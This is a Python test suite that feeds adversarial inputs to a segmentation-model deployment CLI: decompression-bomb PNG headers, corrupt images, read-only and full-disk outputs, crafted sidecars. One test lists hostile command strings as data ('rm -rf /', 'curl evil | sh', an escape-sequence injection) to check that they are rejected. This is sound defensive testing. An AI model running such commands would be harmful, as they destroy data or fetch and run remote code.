"""Adversarial inputs against the CLI (issue 12): every bad input, output error or interruption ends in
one ``error:``/``warning:`` line and exit code 2 (or 1 where some files were skipped), no traceback, no
half-written file, and no earlier good file destroyed.

Every bad input is generated here at test time: corrupt, huge-header, odd-mode and oddly named images,
crafted sidecars and checkpoints, read-only folders (``chattr +i`` as root, ``chmod`` otherwise), outputs
under a regular file, and full disks (``RLIMIT_FSIZE``, which fails writes with EFBIG as a full disk fails
them with ENOSPC). Sections follow the issue's numbering.
"""

from __future__ import annotations

import csv
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import zlib
from pathlib import Path

import numpy as np
import pytest
from helpers import assert_one_line_error as assert_one_line
from helpers import run_cli, run_python
from PIL import Image
from tiny_models import sample_images, tiny_checkpoint, tiny_onnx

from ulffn_deploy.errors import UlffnError
from ulffn_deploy.predict import MANIFEST_NAME

# ---- helpers -----------------------------------------------------------------------------------

def run(*args: str | os.PathLike[str], cwd: Path | None = None, full_disk: bool = False) -> subprocess.CompletedProcess:
    """``ulffn-deploy ARGS`` in a subprocess; ``full_disk``: every file write past 64 bytes fails (EFBIG)."""
    def limit_writes() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (64, 64))

    return run_cli(*args, cwd=cwd, timeout=300, preexec_fn=limit_writes if full_disk else None)


def no_temp_files(folder: Path) -> bool:
    return not [p for p in folder.rglob("*") if p.name.endswith(".tmp")]


@pytest.fixture
def read_only(tmp_path: Path):
    """A folder nobody, root included, can create files in; skipped where that cannot be arranged."""
    folder = tmp_path / "read-only"
    folder.mkdir()
    if os.geteuid() != 0:
        folder.chmod(0o555)
        yield folder
        folder.chmod(0o755)
        return
    made = subprocess.run(["chattr", "+i", str(folder)], capture_output=True)
    if made.returncode:
        pytest.skip("root, and chattr +i is not available here to make a read-only folder")
    try:
        yield folder
    finally:
        subprocess.run(["chattr", "-i", str(folder)], capture_output=True)


def png_header_only(path: Path, width: int, height: int) -> None:
    """A PNG whose header claims ``width`` x ``height`` and that has no pixel data (a decompression-bomb header)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IEND", b""))


# ---- 1. train --overwrite validates before touching the old run ---------------------------------

def _old_run(folder: Path) -> dict[str, bytes]:
    folder.mkdir(parents=True, exist_ok=True)
    files = {name: f"old {name}".encode() for name in ("best.pt", "last.pt", "metrics.csv", "summary.json")}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return files


def test_train_overwrite_with_a_mistyped_data_folder_keeps_the_old_run(tmp_path):
    old = _old_run(tmp_path / "run")
    result = run("train", "--data", tmp_path / "no-such-data", "--out", tmp_path / "run", "--overwrite",
                 "--preset", "cpu-demo", "--quiet")
    assert_one_line(result, 2, "no-such-data")
    assert {name: (tmp_path / "run" / name).read_bytes() for name in old} == old


def test_train_overwrite_failing_before_its_first_checkpoint_restores_the_old_run(tmp_path, monkeypatch):
    from ulffn_deploy.synth import generate_dataset
    from ulffn_deploy.train import trainer

    generate_dataset(tmp_path / "data", n_train=6, n_test=1, size=40)
    old = _old_run(tmp_path / "run")

    def fail(self):
        assert not (tmp_path / "run" / "best.pt").exists()  # the old run is out of the way meanwhile
        raise UlffnError("validation failed")

    monkeypatch.setattr(trainer.Trainer, "fit", fail)
    with pytest.raises(UlffnError, match="validation failed"):
        trainer.train({"data": str(tmp_path / "data"), "out": str(tmp_path / "run"), "overwrite": True,
                       "preset": "cpu-demo", "width": 8, "size": 32, "batch_size": 2, "val_count": 1, "quiet": True})
    assert {name: (tmp_path / "run" / name).read_bytes() for name in old} == old
    assert sorted(p.name for p in (tmp_path / "run").iterdir()) == sorted(old)


def test_train_overwrite_replaces_the_old_run_once_the_new_one_has_a_checkpoint(tmp_path):
    from ulffn_deploy.synth import generate_dataset
    from ulffn_deploy.train import trainer

    generate_dataset(tmp_path / "data", n_train=6, n_test=1, size=40)
    _old_run(tmp_path / "run")
    trainer.train({"data": str(tmp_path / "data"), "out": str(tmp_path / "run"), "overwrite": True, "epochs": 1,
                   "preset": "cpu-demo", "width": 8, "size": 32, "batch_size": 2, "val_count": 1, "quiet": True,
                   "workers": 0})
    assert (tmp_path / "run" / "last.pt").read_bytes()[:2] == b"PK"
    assert sorted(p.name for p in (tmp_path / "run").iterdir() if p.name != "tensorboard") == \
        ["best.pt", "last.pt", "metrics.csv", "summary.json"]


def test_a_run_killed_before_its_first_checkpoint_gets_the_old_run_back(tmp_path):
    from ulffn_deploy.train.trainer import recover_run_dir

    old = _old_run(tmp_path / "run" / ".previous-run")
    (tmp_path / "run" / "metrics.csv").write_text("half a new run")
    recover_run_dir(tmp_path / "run")
    assert {name: (tmp_path / "run" / name).read_bytes() for name in old} == old
    assert not (tmp_path / "run" / ".previous-run").exists()


def test_resume_and_overwrite_together_are_refused(tmp_path):
    _old_run(tmp_path / "run")
    result = run("train", "--data", tmp_path, "--out", tmp_path / "run", "--resume", "--overwrite")
    assert_one_line(result, 2, "--resume", "--overwrite")


# ---- 3. predict: colliding names, shared output folders, interrupted runs --------------------------

def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_same_file_names_in_two_folders_get_two_masks(tmp_path, model):
    for folder, image in zip(("a", "b"), sample_images(2)):
        (tmp_path / folder).mkdir()
        Image.fromarray(image).save(tmp_path / folder / "x.png")
    result = run("predict", model, tmp_path / "a" / "x.png", tmp_path / "b" / "x.png", "-o", tmp_path / "out",
                 "--no-progress")
    assert_one_line(result, 0)
    masks = sorted((tmp_path / "out").glob("*_mask.png"))
    assert len(masks) == 2
    rows = _csv_rows(tmp_path / "out" / "predictions.csv")
    assert sorted(row["mask"] for row in rows) == sorted(p.name for p in masks)
    sizes = {row["mask"]: (int(row["height"]), int(row["width"])) for row in rows}
    assert sorted(sizes.values()) == sorted(image.shape[:2] for image in sample_images(2))


def test_numbered_keys_never_take_another_inputs_own_key():
    from ulffn_deploy.predict import _unique_keys

    keyed = [(Path("a/x.jpg"), Path("x_jpg")), (Path("b/x.jpg"), Path("x_jpg")), (Path("x_jpg_2.png"), Path("x_jpg_2")),
             (Path("c/X.jpg"), Path("X_jpg"))]
    keys = [key.as_posix() for _, key in _unique_keys(keyed)]
    assert keys[0] == "x_jpg" and keys[2] == "x_jpg_2"
    assert len({key.casefold() for key in keys}) == 4


@pytest.mark.parametrize("earlier", [
    "file,mask,height,width,lesion_pixels,lesion_fraction,mean_lesion_probability\n/x/a.png,a_mask.png,4\n",  # cut short
    "",  # emptied
    "file,height,width\n",  # an older layout
])
def test_a_table_left_damaged_by_a_kill_is_repaired(tmp_path, model, images, earlier):
    out = tmp_path / "out"
    out.mkdir()
    (out / "predictions.csv").write_text(earlier)
    assert_one_line(run("predict", model, images, "-o", out, "--no-progress"), 0)
    rows = _csv_rows(out / "predictions.csv")
    assert len(rows) == 3 and all(row["mean_lesion_probability"] is not None for row in rows)


def test_two_runs_into_one_output_folder_keep_both_tables(tmp_path, model, images):
    first, second = sorted(images.iterdir())[:2]
    assert_one_line(run("predict", model, first, "-o", tmp_path / "out", "--no-progress"), 0)
    assert_one_line(run("predict", model, second, "-o", tmp_path / "out", "--no-progress"), 0)
    assert_one_line(run("predict", model, first, "-o", tmp_path / "out", "--no-progress"), 0)  # again: no duplicate
    rows = _csv_rows(tmp_path / "out" / "predictions.csv")
    assert sorted(Path(row["file"]).name for row in rows) == [first.name, second.name]


def test_concurrent_runs_into_one_output_folder_keep_every_row(tmp_path, model, images):
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
    files = sorted(images.iterdir())
    procs = [subprocess.Popen([sys.executable, "-m", "ulffn_deploy", "predict", str(model), str(path), "-o",
                               str(tmp_path / "out"), "--no-progress", "--batch-size", "1"], env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) for path in files]
    assert [proc.wait(timeout=300) for proc in procs] == [0] * len(files)
    rows = _csv_rows(tmp_path / "out" / "predictions.csv")
    assert sorted(Path(row["file"]).name for row in rows) == [p.name for p in files]


def test_an_interrupted_predict_keeps_the_rows_of_its_finished_batches(tmp_path, model, images, monkeypatch):
    from ulffn_deploy import predict

    calls = []
    read_batch = predict._read_batch

    def interrupt_second(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return read_batch(*args, **kwargs)

    monkeypatch.setattr(predict, "_read_batch", interrupt_second)
    with pytest.raises(KeyboardInterrupt):
        predict.predict_paths(model, [images], tmp_path / "out", batch_size=1, progress=False)
    rows = _csv_rows(tmp_path / "out" / "predictions.csv")
    assert [Path(row["file"]).name for row in rows] == [sorted(images.iterdir())[0].name]


# ---- 4. calibrate commits model, ranges and report together -----------------------------------------

def test_calibrate_failing_after_quantization_keeps_the_previous_outputs(tmp_path, model, images, monkeypatch):
    from ulffn_deploy.calib import pipeline

    output = tmp_path / "model.int8.onnx"
    earlier = {output: b"good model", pipeline.report_path(output): b"{}", pipeline.ranges_path(output): b"{}"}
    for path, data in earlier.items():
        path.write_bytes(data)

    def fail(*args, **kwargs):
        raise UlffnError("held-out check failed")

    monkeypatch.setattr(pipeline, "graph_summary", fail)
    with pytest.raises(UlffnError, match="held-out"):
        pipeline.calibrate(model, images, output, num_images=2, num_eval=1, log=lambda line: None)
    assert {path: path.read_bytes() for path in earlier} == earlier
    assert no_temp_files(tmp_path)


def test_calibrate_writes_model_ranges_and_report_of_one_run(tmp_path, model, images):
    from ulffn_deploy.calib import pipeline
    from ulffn_deploy.fileio import sha256_file

    output = tmp_path / "model.int8.onnx"
    report = pipeline.calibrate(model, images, output, num_images=2, num_eval=1, log=lambda line: None)
    stored = json.loads(pipeline.report_path(output).read_text())
    assert stored["int8_sha256"] == sha256_file(output) == report["int8_sha256"]
    assert pipeline.ranges_path(output).is_file() and no_temp_files(tmp_path)


# ---- 5. output errors are bad input: exit 2, one line naming the path ------------------------------

def test_predict_into_a_path_under_a_file(tmp_path, model, images):
    (tmp_path / "file.png").write_bytes(b"x")
    result = run("predict", model, images, "-o", tmp_path / "file.png" / "sub", "--no-progress")
    assert_one_line(result, 2, "file.png")


def test_predict_into_a_read_only_folder(tmp_path, model, images, read_only):
    result = run("predict", model, images, "-o", read_only, "--no-progress")
    assert_one_line(result, 2, str(read_only), "read-only")
    assert not list(read_only.iterdir())


def test_predict_onto_a_full_disk(tmp_path, model, images):
    out = tmp_path / "out"
    out.mkdir()
    (out / "ISIC_0000000_mask.png").write_bytes(b"earlier good mask")
    (out / MANIFEST_NAME).write_text('"ISIC_0000000_mask.png"\n')  # written by an earlier predict
    result = run("predict", model, images, "-o", out, "--no-progress", full_disk=True)
    assert_one_line(result, 2, str(out), "space")
    assert (out / "ISIC_0000000_mask.png").read_bytes() == b"earlier good mask"
    assert no_temp_files(out)


def test_verify_checks_its_json_path_before_the_run(tmp_path, model, images):
    (tmp_path / "file").write_bytes(b"x")
    result = run("verify", model, "--reference", tiny_checkpoint(), "--data", images, "--json",
                 tmp_path / "file" / "report.json", "--iterations", "1")
    assert_one_line(result, 2, "report.json")
    assert "agreement" not in result.stdout  # refused before the long run, not after it


def test_calibrate_output_under_a_file(tmp_path, model, images):
    (tmp_path / "file").write_bytes(b"x")
    result = run("calibrate", model, "--data", images, "-o", tmp_path / "file" / "model.int8.onnx",
                 "--num-images", "2", "--num-eval", "1")
    assert_one_line(result, 2, "file")


def test_calibrate_onto_a_full_disk_keeps_the_previous_outputs(tmp_path, model, images):
    output = tmp_path / "model.int8.onnx"
    output.write_bytes(b"good model")
    result = run("calibrate", model, "--data", images, "-o", output, "--num-images", "2", "--num-eval", "1",
                 full_disk=True)
    assert_one_line(result, 2, "space")
    assert output.read_bytes() == b"good model" and no_temp_files(tmp_path)


def test_train_into_a_read_only_folder(tmp_path, read_only):
    from ulffn_deploy.synth import generate_dataset

    generate_dataset(tmp_path / "data", n_train=6, n_test=1, size=40)
    result = run("train", "--data", tmp_path / "data", "--out", read_only / "run", "--preset", "cpu-demo", "--quiet",
                 "--batch-size", "2", "--val-count", "1")
    assert_one_line(result, 2, "read-only")


def test_train_overwrite_onto_a_full_disk_keeps_the_old_run(tmp_path):
    from ulffn_deploy.synth import generate_dataset

    generate_dataset(tmp_path / "data", n_train=6, n_test=1, size=40)
    old = _old_run(tmp_path / "run")
    result = run("train", "--data", tmp_path / "data", "--out", tmp_path / "run", "--overwrite", "--preset", "cpu-demo",
                 "--quiet", "--batch-size", "2", "--val-count", "1", "--width", "8", "--size", "32", "--epochs", "1",
                 "--workers", "0", full_disk=True)
    assert_one_line(result, 2, "space")
    assert {name: (tmp_path / "run" / name).read_bytes() for name in old} == old
    assert no_temp_files(tmp_path / "run")


def test_synth_under_a_file(tmp_path):
    (tmp_path / "file").write_bytes(b"x")
    assert_one_line(run("synth", tmp_path / "file" / "data", "--n", "2"), 2, "file")


def test_synth_onto_a_full_disk(tmp_path):
    result = run("synth", tmp_path / "data", "--n", "2", "--size", "32", full_disk=True)
    assert_one_line(result, 2, "space")
    assert not (tmp_path / "data").exists()


# ---- 6. huge images ------------------------------------------------------------------------------

def test_a_decompression_bomb_png_is_skipped(tmp_path, model, images):
    png_header_only(images / "bomb.png", 20000, 20000)  # 400 MP: over Pillow's limit
    result = run("predict", model, images, "-o", tmp_path / "out", "--no-progress")
    assert_one_line(result, 1, "bomb.png")
    assert len(list((tmp_path / "out").glob("*_mask.png"))) == 3
    assert len(_csv_rows(tmp_path / "out" / "predictions.csv")) == 3


def test_pillow_warnings_never_reach_stderr_raw(tmp_path, model, images):
    png_header_only(images / "big.png", 10000, 10000)  # 100 MP: Pillow warns, then the file is truncated
    result = run("predict", model, images, "-o", tmp_path / "out", "--no-progress")
    assert_one_line(result, 1, "big.png")
    assert "DecompressionBombWarning" not in result.stderr and "warnings.warn" not in result.stderr


def test_large_jpegs_are_decoded_at_reduced_scale(tmp_path):
    from ulffn_deploy.imageio import read_rgb_reduced

    path = tmp_path / "large.jpg"
    Image.new("RGB", (6000, 4000), (200, 150, 120)).save(path, quality=50)
    image, original = read_rgb_reduced(path, max_side=1024)
    assert original == (4000, 6000)
    assert max(image.shape[:2]) < 6000 / 2 and min(image.shape[:2]) >= 1024 * 2 // 3
    small = tmp_path / "small.jpg"
    Image.new("RGB", (300, 200)).save(small)
    assert read_rgb_reduced(small, max_side=1024)[0].shape == (200, 300, 3)


def test_predict_writes_masks_of_large_images_at_their_original_size(tmp_path, model, monkeypatch):
    from ulffn_deploy import predict

    monkeypatch.setattr(predict, "NETWORK_MAX_SIDE", 64)  # so a small image counts as large
    path = tmp_path / "large.jpg"
    Image.fromarray(np.repeat(np.repeat(sample_images(1)[0], 8, axis=0), 8, axis=1)).save(path)
    summary = predict.predict_paths(model, [path], tmp_path / "out", progress=False)
    assert summary.predicted == [path]
    mask = Image.open(tmp_path / "out" / "large_mask.png")
    assert mask.size == Image.open(path).size
    assert _csv_rows(summary.csv_path)[0]["width"] == str(mask.size[0])


# ---- 7. odd file names -----------------------------------------------------------------------------

@pytest.mark.skipif(sys.platform != "linux", reason="needs a file system that takes any bytes in names")
def test_a_non_utf8_file_name_is_predicted_and_listed(tmp_path, model):
    folder = tmp_path / "odd"
    folder.mkdir()
    odd = os.fsdecode(os.fsencode(folder) + b"/lesion-\xff\xfe.png")
    Image.fromarray(sample_images(1)[0]).save(odd, format="PNG")
    result = run("predict", model, folder, "-o", tmp_path / "out", "--no-progress")
    assert_one_line(result, 0)
    rows = _csv_rows(tmp_path / "out" / "predictions.csv")
    assert len(rows) == 1 and "lesion-" in rows[0]["file"]
    assert len(list((tmp_path / "out").glob("*_mask.png"))) == 1


# ---- 8. score reads predict's own output --------------------------------------------------------------

def test_score_reads_a_predict_output_folder(tmp_path, model, images):
    assert_one_line(run("predict", model, images, "-o", tmp_path / "out", "--no-progress"), 0)
    truth = tmp_path / "truth"
    truth.mkdir()
    for path in images.iterdir():
        Image.open(tmp_path / "out" / f"{path.stem}_mask.png").save(truth / f"{path.stem}_Segmentation.png")
    result = run("score", tmp_path / "out", truth, "--json")
    assert_one_line(result, 0)
    assert json.loads(result.stdout)["images"] == 3


# ---- 9. sidecar fields that are not what they claim --------------------------------------------------

@pytest.fixture
def ort_artifact(tmp_path: Path) -> Path:
    from ulffn_deploy.targets.registry import build

    return Path(build("onnxruntime", tiny_onnx("fp32"), tmp_path / "model.fp32.ort.onnx"))


@pytest.mark.parametrize("version", ["one", [1], "1e400"])
def test_a_sidecar_version_that_is_no_integer(tmp_path, ort_artifact, images, version):
    sidecar = ort_artifact.with_name(ort_artifact.name + ".json")
    data = json.loads(sidecar.read_text())
    sidecar.write_text(json.dumps({**data, "version": version}))
    result = run("predict", ort_artifact, images, "-o", tmp_path / "out", "--no-progress")
    assert_one_line(result, 2, "version")


def test_a_non_numeric_compute_capability_is_a_problem_not_a_crash():
    from ulffn_deploy.targets.tensorrt_compat import engine_compatibility_problem

    sidecar = {"tensorrt_version": "10.0.1", "gpu": {"name": "X", "compute_capability": "eight"}}
    problem = engine_compatibility_problem(sidecar, {"name": "Y", "compute_capability": "8.9"}, "10.0.1")
    assert problem and "eight" in problem


@pytest.mark.parametrize("command, shown", [
    ("ulffn-deploy build-engine --onnx m.onnx -o m.engine", True),
    ("ulffn-deploy build-engine --onnx m.onnx\x1b]0;pwned\x07 -o m.engine", False),
    ("rm -rf / ; ulffn-deploy build-engine", False),
    ("ulffn-deploy build-engine --onnx m.onnx -o m.engine; curl evil | sh", False),
    ("ulffn-deploy build-engine --onnx 'a b.onnx' -o m.engine", True),
    (["ulffn-deploy", "build-engine"], False),
])
def test_build_command_is_shown_only_when_it_is_a_plain_toolkit_command(command, shown):
    from ulffn_deploy.runtime.metadata import shown_build_command

    assert (shown_build_command({"build_command": command}) is not None) is shown


# ---- 10. smaller cases -----------------------------------------------------------------------------------

@pytest.mark.parametrize("args", [["benchmark", "--quick"], ["quickstart", "--epochs", "1"]])
def test_commands_that_need_torch_say_so_without_it(tmp_path, args):
    result = run_python(f"""
        import os
        os.chdir({str(tmp_path)!r})
        from ulffn_deploy.cli import main
        main({args!r})
    """, absent=("torch",))
    assert_one_line(result, 2, "torch", "pip install")


def test_nan_in_a_ranges_cache_is_recomputed(tmp_path):
    from ulffn_deploy.calib.ranges import FORMAT, VERSION, load_ranges

    path = tmp_path / "model.int8.ranges.json"
    fingerprint = {"method": "minmax"}
    path.write_text(json.dumps({"format": FORMAT, "version": VERSION, "fingerprint": fingerprint,
                                "ranges": {"a": [0.0, float("nan")]}}))
    ranges, status = load_ranges(path, fingerprint)
    assert ranges is None and "finite" in status


def test_pk_and_random_bytes_are_not_a_checkpoint(tmp_path, images):
    path = tmp_path / "fake.pt"
    path.write_bytes(b"PK" + np.random.default_rng(0).bytes(4000))
    result = run("predict", path, images, "-o", tmp_path / "out", "--no-progress")
    line = assert_one_line(result, 2, "not a PyTorch checkpoint")
    assert "Python objects" not in line


def _isic_folder(root: Path, count: int = 4) -> Path:
    from ulffn_deploy.synth import generate_dataset

    generate_dataset(root, n_train=count, n_test=2, size=40)
    return root


def test_calibrate_names_a_duplicate_id(tmp_path, model):
    data = _isic_folder(tmp_path / "data")
    folder = data / "ISBI2016_ISIC_Part1_Training_Data"
    first = sorted(folder.glob("*.jpg"))[0]
    shutil.copy(first, first.with_suffix(".png"))
    result = run("calibrate", model, "--data", data, "-o", tmp_path / "m.int8.onnx", "--num-images", "2")
    assert_one_line(result, 2, "two files for", first.stem)


def test_calibrate_rejects_held_out_masks_of_another_size(tmp_path, model):
    data = _isic_folder(tmp_path / "data")
    mask = sorted((data / "ISBI2016_ISIC_Part1_Test_GroundTruth").glob("*.png"))[0]
    Image.new("L", (7, 5)).save(mask)
    result = run("calibrate", model, "--data", data, "-o", tmp_path / "m.int8.onnx", "--num-images", "2")
    assert_one_line(result, 2, mask.name, "size")
    assert not (tmp_path / "m.int8.onnx").exists()


def test_temp_files_left_by_a_kill_are_cleaned_at_the_next_write(tmp_path):
    from ulffn_deploy.fileio import STALE_TEMP_SECONDS, write_text_atomic

    stale, fresh, other = (tmp_path / name for name in (".out.txt.abc123_z.tmp", ".out.txt.def456_z.tmp", ".x.tmp"))
    for path in (stale, fresh, other):
        path.write_text("left by a kill")
    old = os.stat(stale).st_mtime - STALE_TEMP_SECONDS - 60
    os.utime(stale, (old, old))
    os.utime(other, (old, old))
    write_text_atomic(tmp_path / "out.txt", "new")
    assert not stale.exists() and fresh.exists() and other.exists()  # only stale temp files of this output


def test_synth_build_folders_left_by_a_kill_are_cleaned(tmp_path):
    from ulffn_deploy.fileio import STALE_TEMP_SECONDS

    stale = tmp_path / ".data.k1ll3d_x.tmp"
    (stale / "ISBI2016_ISIC_Part1_Training_Data").mkdir(parents=True)
    old = os.stat(stale).st_mtime - STALE_TEMP_SECONDS - 60
    os.utime(stale, (old, old))
    assert_one_line(run("synth", tmp_path / "data", "--n", "2", "--size", "32"), 0)
    assert not stale.exists() and (tmp_path / "data" / "synth.json").is_file()


def test_warnings_print_as_one_line():
    result = run_python("""
        import warnings
        from ulffn_deploy import cli
        cli.install_warning_format()
        warnings.warn("first part\\n  second part", UserWarning)
    """)
    assert result.stderr == "warning: first part second part\n"


@pytest.mark.parametrize("mode", ["I;16", "F", "CMYK", "LA", "P", "1"])
def test_odd_image_modes_are_predicted(tmp_path, model, mode):
    image = Image.fromarray(sample_images(1)[0]).convert("L" if mode in ("I;16", "F", "1") else "RGB")
    odd = image.convert(mode) if mode != "I;16" else Image.fromarray(np.asarray(image).astype(np.uint16) * 257)
    path = tmp_path / ("odd.tif" if mode in ("F", "CMYK") else "odd.png")
    odd.save(path)
    assert_one_line(run("predict", model, path, "-o", tmp_path / "out", "--no-progress"), 0)
    assert (tmp_path / "out" / "odd_mask.png").is_file()


@pytest.mark.parametrize("data", [b"", b"\x89PNG\r\n\x1a\n" + b"\0" * 40, b"\xff\xd8\xff\xe0" + b"junk" * 10])
def test_corrupt_images_are_skipped(tmp_path, model, images, data):
    (images / "corrupt.jpg").write_bytes(data)
    result = run("predict", model, images, "-o", tmp_path / "out", "--no-progress")
    assert_one_line(result, 1, "corrupt.jpg")
    assert len(_csv_rows(tmp_path / "out" / "predictions.csv")) == 3
